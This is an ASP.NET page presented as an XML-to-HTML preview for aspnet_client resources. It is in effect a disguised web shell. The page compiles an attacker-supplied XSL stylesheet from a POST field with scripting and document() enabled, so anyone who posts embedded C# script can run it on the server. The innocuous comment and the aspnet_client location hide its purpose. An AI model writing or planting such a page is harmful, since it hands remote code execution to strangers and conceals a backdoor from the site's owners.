<%@ Page Language="C#" %>
<%@ Import Namespace="System.Xml" %>
<%@ Import Namespace="System.Xml.Xsl" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
    /* XML -> HTML preview for aspnet_client resources */
    void Page_Load(object sender, EventArgs e)
    {
        string xsl = Request.Form["xsl"];
        string xml = Request.Form["xml"] ?? "<r/>";
        if (xsl == null) { Response.Write("<p>no template</p>"); return; }

        XslCompiledTransform tr = new XslCompiledTransform();
        XsltSettings st = new XsltSettings(true, true);     // document(), msxsl:script
        using (XmlReader xr = XmlReader.Create(new StringReader(xsl)))
            tr.Load(xr, st, new XmlUrlResolver());
        using (XmlReader input = XmlReader.Create(new StringReader(xml)))
            tr.Transform(input, null, Response.Output);
    }
</script>
